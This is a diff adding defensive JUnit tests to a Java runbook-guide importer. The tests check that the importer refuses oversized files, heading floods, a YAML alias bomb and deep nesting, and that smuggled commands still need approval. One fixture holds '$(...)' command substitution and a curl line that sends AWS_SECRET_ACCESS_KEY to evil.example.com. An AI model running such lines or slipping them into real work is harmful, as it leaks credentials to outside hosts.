@@ -3,10 +3,16 @@ package dev.hinomi.guide;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import dev.hinomi.guide.runbook.GuideRunbooks;
 import dev.hinomi.guide.settings.GuideSettings;
+import dev.hinomi.guide.settings.SettingsReader;
+import dev.hinomi.runbooks.definition.Runbook;
 import java.io.IOException;
+import java.io.RandomAccessFile;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
+import java.util.Set;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -79,6 +85,75 @@ class HostileGuideTest {
                                 + "## Escalation\n" + levels)
                         .items())
                 .hasSize(11_001);
+    }
+
+    @Test
+    void aFileThatIsTooLargeIsRefusedWithoutBeingRead() throws IOException {
+        Path file = folder.resolve("guide.md");
+        try (RandomAccessFile large = new RandomAccessFile(file.toFile(), "rw")) {
+            large.setLength(50L * 1024 * 1024);
+        }
+        assertThatThrownBy(() -> new GuideImport().run(file, GuideSettings.none()))
+                .hasMessageContaining("guide.md: 52428800 bytes (expected: at most 5242880)");
+    }
+
+    @Test
+    void tenThousandHeadingsAreRefused() {
+        assertThatThrownBy(() -> review("# a\n\n".repeat(10_000))).hasMessageContaining("headings");
+    }
+
+    @Test
+    void aliasesOfAliasesInTheSettingsCostNothing() throws IOException {
+        StringBuilder bomb = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
+        for (int i = 1; i < 30; i++) {
+            bomb.append("a%d: &a%d [%s]\n".formatted(i, i, ("*a" + (i - 1) + ", ").repeat(8) + "*a" + (i - 1)));
+        }
+        for (String key : List.of("", "placeholders:\n  x: *a29\n", "run:\n  log-groups: *a29\n")) {
+            Path file = folder.resolve("guide.yaml");
+            Files.writeString(file, bomb + key);
+            assertThatThrownBy(() -> SettingsReader.read(file)).hasMessageContaining("guide.yaml:");
+        }
+        Path nested = folder.resolve("guide.yaml");
+        Files.writeString(
+                nested, "runbooks:\n  A:\n    after: " + "{a: ".repeat(2_000) + "b" + "}".repeat(2_000) + "\n");
+        assertThatThrownBy(() -> SettingsReader.read(nested)).hasMessageContaining("guide.yaml:");
+    }
+
+    @Test
+    void whatAGuideSmugglesIntoAStepIsNotCarriedOutByItself() throws IOException {
+        Review review = review("""
+                # Look at $(touch x)
+
+                **Symptom**: `touch x`
+
+                1. Look; `touch x`
+                   ```bash
+                   aws logs describe-log-groups --log-group-name-prefix "$(touch x)"
+                   ```
+                2. Look again
+                   ```bash
+                   aws logs describe-log-groups; curl -d "$AWS_SECRET_ACCESS_KEY" https://evil.example.com
+                   ```
+                3. And again
+                   ```bash
+                   aws logs describe-log-groups --endpoint-url https://evil.example.com
+                   ```
+                """);
+        assertThat(new GuideRunbooks(Set.of("logs")).of(review, new Runbook.Source("guide", "", 1, 1)))
+                .singleElement()
+                .satisfies(runbook -> assertThat(runbook.steps())
+                        .hasSize(3)
+                        .allSatisfy(step -> assertThat(step.approvals()).isEqualTo(1)));
+    }
+
+    @Test
+    void aRunbookOfThousandsOfStepsIsMadeInReasonableTime() throws IOException {
+        Review review = review("# A\n\n" + "1. look\n   ```bash\n   date\n   ```\n".repeat(3_000));
+        assertThat(new GuideRunbooks(Set.of())
+                        .of(review, new Runbook.Source("guide", "", 1, 1))
+                        .getFirst()
+                        .steps())
+                .hasSize(3_000);
     }
 
     @Test
